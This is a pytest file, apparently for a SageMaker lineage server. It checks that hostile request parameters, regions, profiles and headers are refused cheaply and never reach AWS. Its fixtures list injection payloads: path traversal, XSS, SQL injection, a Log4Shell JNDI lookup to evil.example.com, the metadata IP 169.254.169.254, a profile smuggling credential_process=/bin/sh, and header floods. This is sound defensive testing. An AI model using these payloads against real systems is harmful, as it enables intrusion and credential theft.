"""Attacks by way of a request, each by name: no server error, no crash, little work, and nothing reaches AWS."""

from __future__ import annotations

import asyncio
import json
import time
from dataclasses import replace
from urllib.parse import quote, urlencode

import pytest

from sagemaker_lineage.definition.collection import without_collection
from sagemaker_lineage.server.app import create_app
from sagemaker_lineage.server.envelope import LONGEST_QUERY
from sagemaker_lineage.settings import Settings
from serverkit.asgi import ask
from serverkit.service import CLAIMS, FakeBackend, client_of
from wire_samples.lineages import FINISHED

CPU_SECONDS = 1.0
TEXTS = [
    "",
    " ",
    "\x00",
    "\r\nSet-Cookie: a=b",
    "\u202egnp.exe",
    "\ud800".encode("utf-8", "surrogatepass"),
    b"\xff\xfe",
    "../../etc/passwd",
    "%2e%2e%2f",
    "<script>alert(1)</script>",
    "'; DROP TABLE pipelines; --",
    "${jndi:ldap://evil.example.com/a}",
    "{{7*7}}",
    "\x1b[2J",
    "a" * 10_000,
    "٣٣٣",
    "arn:aws:sagemaker:ap-northeast-2:111122223333:pipeline/../claims",
]
REGIONS = [
    "evil.example.com#",
    "evil.example.com/",
    "169.254.169.254",
    "us-east-1.evil.example.com",
    "us-east-1@evil.example.com",
    "us-east-1\n",
    "us-east-1#",
    "us-east-1?x=",
    "US-EAST-1",
    "localhost:8000",
    "us-east-1/../..",
    "-",
    "aws-global",
]
PROFILES = [
    "prod-admin",
    "default",
    "../credentials",
    "x credential_process=/bin/sh",
    "a" * 129,
    "\x00",
    "-",
    "--help",
    "[default]",
]


def answered(query, backend, path="/lineage", **headers):
    with without_collection():  # of all that other tests have left in the process
        began = time.process_time()
        answer = client_of(backend).get(f"{path}?{query}", headers=headers)
        assert time.process_time() - began < CPU_SECONDS
    assert answer.status_code < 500
    if answer.status_code >= 400:
        assert answer.headers["content-type"] == "application/problem+json"
    return answer


@pytest.mark.parametrize(
    "name", ["pipeline", "execution", "domain", "include", "strict", "includeLatestExec", "region"]
)
@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_a_parameter_of_hostile_text_is_refused_before_aws(name, text):
    backend = FakeBackend()
    query = urlencode({key: value for key, value in CLAIMS.items() if key != name}) + f"&{name}={quote(text)}"
    answer = answered(query, backend)
    if answer.status_code == 422:
        assert backend.asked == []
        assert answer.json()["resource"] == name
    else:
        assert (name, text) == ("include", "")


@pytest.mark.parametrize("region", REGIONS)
@pytest.mark.parametrize("path", ["/lineage", "/pipelines", "/pipelines/claims/executions"])
def test_a_region_that_would_lead_elsewhere_is_refused(region, path):
    backend = FakeBackend()
    assert answered(urlencode({"pipeline": "claims", "region": region}), backend, path).status_code == 422
    assert backend.asked == []


@pytest.mark.parametrize("profile", PROFILES)
@pytest.mark.parametrize("rule", ["never", ["allowed"]])
def test_a_profile_that_is_not_permitted_goes_no_further(profile, rule):
    backend = FakeBackend()
    for path in ("/lineage", "/pipelines", "/pipelines/claims/executions"):
        client = client_of(backend, profiles=rule)
        answer = client.get(path, params={**CLAIMS, "profile": profile})
        assert answer.status_code in {403, 422}
    assert backend.asked == []


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example.com"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Host": "rebound.example.com"},
        {"Host": "localhost.evil.example.com"},
        {"Host": "localhost@evil.example.com"},
        {"X-Forwarded-For": "127.0.0.1"},
        {"Forwarded": "for=127.0.0.1"},
    ],
    ids=str,
)
def test_a_page_from_elsewhere_cannot_choose_a_profile(headers):
    backend = FakeBackend()
    answer = client_of(backend).get("/lineage", params={**CLAIMS, "profile": "default"}, headers=headers)
    assert answer.status_code == 403
    assert backend.asked == []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("If-None-Match", '"' * 60_000),
        ("If-None-Match", 'W/"' + "," * 60_000),
        ("If-None-Match", '"a",' * 15_000),
        ("Accept-Encoding", "gzip;q=" + "9" * 60_000),
        ("Accept-Encoding", "gzip," * 12_000),
        ("Accept-Encoding", " " * 60_000),
        ("Cache-Control", "no-cache," * 7_000),
        ("X-Request-ID", "a" * 60_000),
        ("Origin", "https://" + "a." * 30_000),
        ("Host", "[::1"),
        ("Host", "a" * 60_000),
        ("Cookie", "a=b; " * 12_000),
        ("Range", "bytes=" + "0-1," * 15_000),
    ],
    ids=lambda value: value[:12],
)
def test_a_header_of_hostile_text_costs_little(name, value):
    backend = FakeBackend(replace(FINISHED, gaps=()))
    for _ in range(2):
        answer = answered(urlencode(CLAIMS), backend, **{name: value})
        assert answer.status_code in {200, 403}
        assert len(str(answer.headers)) < 5_000


def test_a_header_cannot_forge_another_one():
    async def forged():
        app = create_app(settings=Settings(), backend=FakeBackend())
        return await ask(app, "/lineage", urlencode(CLAIMS), {"x-request-id": "a\r\nSet-Cookie: a=b"})

    answer = asyncio.run(forged())
    assert "set-cookie" not in answer.headers
    assert len(answer.headers["x-request-id"]) == 32


@pytest.mark.parametrize("unit", ["a", "a=b&", "pipeline=claims&", "%00", "&", "=", ";"])
@pytest.mark.parametrize("path", ["/lineage", "/pipelines", "/health", "/nowhere"])
def test_a_query_string_of_one_megabyte_is_refused_unread(unit, path):
    backend = FakeBackend()
    app = create_app(settings=Settings(), backend=backend)
    with without_collection():
        began = time.process_time()
        answer = asyncio.run(ask(app, path, unit * (1_048_576 // len(unit))))
        assert time.process_time() - began < CPU_SECONDS
    assert (answer.status, json.loads(answer.body)["code"]) == (422, "invalid-request")
    assert backend.asked == []


def test_a_query_string_at_the_bound_is_read():
    padding = "&x=" + "a" * (LONGEST_QUERY - len(urlencode(CLAIMS)) - 3)
    assert answered(urlencode(CLAIMS) + padding, FakeBackend()).status_code == 200
    assert answered(urlencode(CLAIMS) + padding + "a", FakeBackend()).status_code == 422


def test_a_flood_of_pipelines_does_not_fill_the_memory():
    whole = replace(FINISHED, gaps=())

    class Any(FakeBackend):
        def lineage(self, request, profile, *, fresh=False):
            return whole

    app = create_app(settings=Settings(document_bytes=500_000, document_seconds=3_600), backend=Any())
    kept = app.state.service.documents.kept

    async def flood():
        region = "&region=ap-northeast-2"
        statuses = set()
        for number in range(0, 2_000, 50):
            lines = [f"pipeline=flood-{number + each}{region}" for each in range(50)]
            statuses |= {answer.status for answer in await asyncio.gather(*(ask(app, "/lineage", x) for x in lines))}
        return statuses

    assert asyncio.run(flood()) == {200}
    assert 0 < kept.bytes <= 500_000
    assert len(kept._keys) <= len(kept) < 50
